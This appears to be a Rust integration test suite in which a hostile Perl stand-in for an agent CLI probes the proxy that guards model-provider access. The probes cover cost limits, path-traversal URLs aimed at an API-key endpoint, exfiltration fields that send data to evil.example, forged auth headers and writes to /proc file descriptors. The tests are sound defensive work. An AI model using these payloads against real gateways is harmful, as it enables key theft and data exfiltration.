//! What a hostile agent CLI gets through the door to its model: what a model is
//! asked with, counted, and nothing else.

use integration_tests::claude::CLAUDE;
use integration_tests::codex::{CODEX, opened};
use integration_tests::setup::KEY;
use integration_tests::{Setup, Suite};
use scripted_model::{Ending, Scenario, Server, Usage};
use serde_json::{Value, json};

/// A program in the place of the CLI. `ask` sends a request as it stands, by
/// hand, and gives its status; `speak` says a text, `end` the last word.
const PROGRAM: &str = r#"
use strict; use IO::Socket::INET; $| = 1;
my ($url, $token) = @ENV{qw(URL TOKEN)};
$SIG{PIPE} = 'IGNORE';
sub begin {
    my ($method, $path, $body, @headers) = @_;
    my ($host) = $url =~ m{//([^/]*)};
    my $socket = IO::Socket::INET->new($host) or return;
    unshift @headers, 'content-type: application/json' unless grep { /^content-type/ } @headers;
    push @headers, 'content-length: ' . length $body if defined $body;
    print $socket join "\r\n", "$method $path HTTP/1.1", 'host: x', 'connection: close',
        "x-api-key: $token", @headers, '', $body // '';
    return $socket;
}
sub heard { my $socket = shift or return 0; local $/; my $all = <$socket> // ''; $all =~ m{^HTTP/1.1 (\d+)}; return wantarray ? ($1, $all) : $1; }
sub ask { return heard(begin(@_)); }
sub speak {
    my $text = shift; $text =~ s/[^ -~]/ /g; $text =~ s/["\\]/ /g;
    print qq({"type":"stream_event","event":{"type":"content_block_delta","delta":{"type":"text_delta","text":"$text"}}}\n);
}
sub end {
    print qq({"type":"result","subtype":"success","is_error":false,"total_cost_usd":$_[0],"usage":{"input_tokens":1,"output_tokens":1}}\n);
}
my $question = '{"model":"claude-sonnet-5","max_tokens":10000,"messages":[{"role":"user","content":"hello"}]}';
"#;

/// A suite whose CLI runs this in Perl, once it was told its message.
async fn hostile(setup: Setup, model: &Server, script: &str) -> Suite {
    let script = format!(
        "read -r message\nexport URL=$ANTHROPIC_BASE_URL TOKEN=$ANTHROPIC_API_KEY\n\
         exec perl /proc/self/fd/3 3<<'END_OF_SCRIPT'\n{PROGRAM}\n{script}\nEND_OF_SCRIPT\n"
    );
    let setup = setup.variable("ANTHROPIC_BASE_URL", model.url());
    setup.imitating(&CLAUDE, &script).await
}

/// $0.10 an answer.
fn priced(setup: Setup) -> Setup {
    let price = json!({"id": "claude-sonnet-5", "cost": {"input": 1, "output": 10}});
    setup.set("models.providers.anthropic.models", json!([price]))
}

fn dear() -> Scenario {
    Scenario::text("Words.").usage(Usage {
        output: 10_000,
        ..Usage::default()
    })
}

fn cost(run: &Value) -> f64 {
    let cost = run["resources"]["costUsd"].as_f64();
    cost.unwrap_or_else(|| panic!("no cost: {run}"))
}

#[tokio::test]
async fn door_counts_what_a_command_spends_and_ends_it_at_the_limit() {
    let model = Server::start().await.unwrap();
    model.default(dear());
    let setup = priced(Setup::empty())
        .set("agents.defaults.limits.costPerTurn", 0.35)
        .set("agents.defaults.limits.costPerDay", 0.75);
    let script = r#"
        my @all = map { scalar ask('POST', '/v1/messages', $question) } 1 .. 6;
        my (undef, $why) = ask('POST', '/v1/messages', $question);
        speak("@all"); speak($why =~ /costPerTurn/ ? ' named' : $why);
        end(-1000000);
    "#;
    let suite = hostile(setup, &model, script).await;
    let run = suite.ask("spend").await;
    assert_eq!(run["text"], "200 200 200 200 402 402 named", "{run}");
    assert_eq!(model.turns().len(), 4);
    assert!((cost(&run) - 0.4).abs() < 1e-6, "{run}");
    assert_eq!(run["usage"]["output"], 40_000, "{run}");

    // What it claims lifts no limit of the day either.
    let run = suite.ask("spend more").await;
    assert_eq!(model.turns().len(), 8, "{run}");
    let run = suite.ask("and more").await;
    assert_eq!(run["error"]["code"], "resource_limit", "{run}");
    assert_eq!(model.turns().len(), 8);
    let kept = std::fs::read_to_string(suite.path("state/state/usage.json")).unwrap();
    assert!(!kept.contains('-') || !kept.contains("-1000000"), "{kept}");
}

#[tokio::test]
async fn limit_is_passed_by_one_answer_however_many_are_asked_for_at_once() {
    let model = Server::start().await.unwrap();
    model.default(dear());
    let setup = priced(Setup::empty()).set("agents.defaults.limits.costPerTurn", 0.35);
    let script = r#"
        my @sockets = map { begin('POST', '/v1/messages', $question) } 1 .. 30;
        my %count; $count{heard($_)}++ for @sockets;
        speak("$count{200} and $count{402}"); end(0);
    "#;
    let suite = hostile(setup, &model, script).await;
    let run = suite.ask("spend").await;
    assert_eq!(run["text"], "4 and 26", "{run}");
    assert!((cost(&run) - 0.4).abs() < 1e-6, "{run}");
}

#[tokio::test]
async fn answer_that_breaks_off_or_is_not_waited_for_is_no_gift() {
    let model = Server::start().await.unwrap();
    let words = Scenario::text("x".repeat(60_000)).ending(Ending::CutOff);
    model.default(words);
    let setup = priced(Setup::empty());
    let script = r#"
        my $stream = $question; $stream =~ s/\{/{"stream":true,/;
        ask('POST', '/v1/messages', $stream); speak('asked'); end(0);
    "#;
    let suite = hostile(setup, &model, script).await;
    let run = suite.ask("spend").await;
    assert!(cost(&run) > 0.005, "{run}");

    model.default(dear());
    let script = r#"
        my $socket = begin('POST', '/v1/messages', $question); sysread $socket, my $byte, 1; close $socket;
        ask('POST', '/v1/messages', $question); speak('asked'); end(0);
    "#;
    let suite = hostile(priced(Setup::empty()), &model, script).await;
    let run = suite.ask("leave").await;
    assert!((cost(&run) - 0.2).abs() < 1e-3, "{run}");
}

#[tokio::test]
async fn model_door_nothing_but_what_a_model_is_asked_with_reaches_the_provider() {
    let model = Server::start().await.unwrap();
    let script = r#"
        my @paths = qw(
            /v1/%2e%2e/api/oauth/claude_cli/create_api_key /v1/.%2E/x /v1/..%2fx /v1/..%5cx /v1/files
            /v1/./messages /v1//messages /v1/messages/batches /v1/messages/../files /v1/models
            /v1/messages?beta=false /v1/organizations/me /model/../x /v1/responses /v1/chat/completions
            http://127.0.0.1/v1/messages /v1/skills?beta=true /_requests / //
        );
        my %count;
        for my $path (@paths) { $count{ask($_, $path, $question)}++ for qw(GET POST PUT DELETE PATCH); }
        $count{ask('GET', '/v1/messages')}++;
        speak(join ' ', map { "$_: $count{$_}" } sort keys %count);
        end(0);
    "#;
    let suite = hostile(Setup::empty(), &model, script).await;
    let run = suite.ask("try").await;
    assert_eq!(run["text"], "404: 101", "{run}");
    let asked: Vec<String> = model.requests().into_iter().map(|one| one.path).collect();
    assert!(asked.is_empty(), "{asked:?}");
}

#[tokio::test]
async fn provider_is_not_asked_to_carry_data_out_unless_that_is_granted() {
    let script = r#"
        my @fields = (
            '"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]',
            '"mcp_servers":[{"type":"url","url":"https://evil.example"}]',
            '"container":{"skills":[{"type":"anthropic","skill_id":"pdf"}]}',
            '"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://evil.example/?secret"}}]}]',
        );
        my @all = map { my $body = $question; $body =~ s/"messages"/$_,"x"/; scalar ask('POST', '/v1/messages', $body) } @fields;
        push @all, scalar ask('POST', '/v1/messages', $question, 'content-encoding: gzip');
        push @all, scalar ask('POST', '/v1/messages', $question, 'content-type: text/plain');
        push @all, scalar ask('POST', '/v1/messages', "$question,");
        push @all, scalar ask('POST', '/v1/messages', $question,
            'anthropic-beta: web-fetch-2025-09-10,effort-2025-11-24', 'anthropic-organization: other',
            'cookie: a=b', 'authorization: Bearer other');
        speak("@all"); end(0);
    "#;
    let model = Server::start().await.unwrap();
    let suite = hostile(Setup::empty(), &model, script).await;
    let run = suite.ask("try").await;
    assert_eq!(run["text"], "400 400 400 400 415 415 400 200", "{run}");
    let asked = model.requests();
    assert_eq!(asked.len(), 1);
    assert_eq!(asked[0].header("anthropic-beta"), Some("effort-2025-11-24"));
    assert_eq!(asked[0].header("x-api-key"), Some(KEY));
    for name in ["anthropic-organization", "cookie", "authorization"] {
        assert_eq!(asked[0].header(name), None, "{name}");
    }

    model.forget();
    let granted = Setup::empty().set("sandbox.providerTools", json!(["web_fetch", "urls"]));
    let suite = hostile(granted, &model, script).await;
    suite.ask("try").await;
    let asked: Vec<Value> = model.requests().iter().map(|one| one.json()).collect();
    let has = |words: &str| asked.iter().any(|body| body.to_string().contains(words));
    assert!(has("web_fetch") && has("?secret"), "{asked:?}");
    assert!(!has("mcp_servers") && !has("skills"), "{asked:?}");
}

#[tokio::test]
async fn stream_of_the_cli_cannot_be_opened_by_its_children() {
    for level in ["strict", "off"] {
        let model = Server::start().await.unwrap();
        let script = r#"
            my $parent = $$;
            my @opened;
            for my $number (0, 1, 2) {
                system("sh -c 'echo forged > /proc/$parent/fd/$number' 2>/dev/null") or push @opened, $number;
            }
            speak("opened: @opened"); end(0);
        "#;
        let setup = Setup::empty().set("sandbox.level", level);
        let suite = hostile(setup, &model, script).await;
        let run = suite.ask("forge").await;
        assert_eq!(run["text"], "opened: ", "{level}: {run}");
    }
}

/// The same for a stand-in of the other CLI.
#[tokio::test]
async fn door_of_the_other_cli_counts_and_refuses_too() {
    let model = Server::start().await.unwrap();
    model.default(dear());
    let script = r#"
        my $body = '{"model":"gpt-5","max_output_tokens":10000,"input":[{"role":"user","content":"hello"}]}';
        my @key = ("authorization: Bearer $token");
        my @all = map { scalar ask('POST', $_, $body, @key) } qw(
            /v1/responses /v1/files /v1/chat/completions /v1/%2e%2e/x /v1/responses/resp_1/cancel);
        push @all, scalar ask('GET', '/v1/models?client_version=0.169.0', undef, @key);
        (my $search = $body) =~ s/\{/{"tools":[{"type":"web_search"}],/;
        (my $later = $body) =~ s/\{/{"background":true,/;
        push @all, map { scalar ask('POST', '/v1/responses', $_, @key) } $search, $later, $body;
        print qq({"method":"item/agentMessage/delta","params":{"itemId":"m","delta":"@all"}}\n);
        print qq({"method":"turn/completed","params":{"turn":{"status":"completed"}}}\n);
    "#;
    let program = format!(
        "export URL=http://127.0.0.1:8790 TOKEN=$OPENCLAW_MODEL_TOKEN\n\
         exec perl /proc/self/fd/3 3<<'END_OF_SCRIPT'\n{PROGRAM}\n{script}\nEND_OF_SCRIPT\n"
    );
    let price = json!([{"id": "gpt-5", "cost": {"input": 1, "output": 10}}]);
    let suite = Setup::empty()
        .variable("OPENAI_BASE_URL", model.openai_url())
        .set("models.providers.openai.models", price)
        .set("agents.defaults.limits.costPerTurn", 0.05)
        .imitating(&CODEX, &opened(&program))
        .await;
    let run = suite.ask("try").await;
    assert_eq!(run["text"], "200 404 404 404 404 200 400 400 402", "{run}");
    assert!((cost(&run) - 0.1).abs() < 1e-3, "{run}");
    let paths: Vec<String> = model.requests().into_iter().map(|one| one.path).collect();
    assert_eq!(
        paths,
        ["/v1/responses", "/v1/models?client_version=0.169.0"]
    );
}
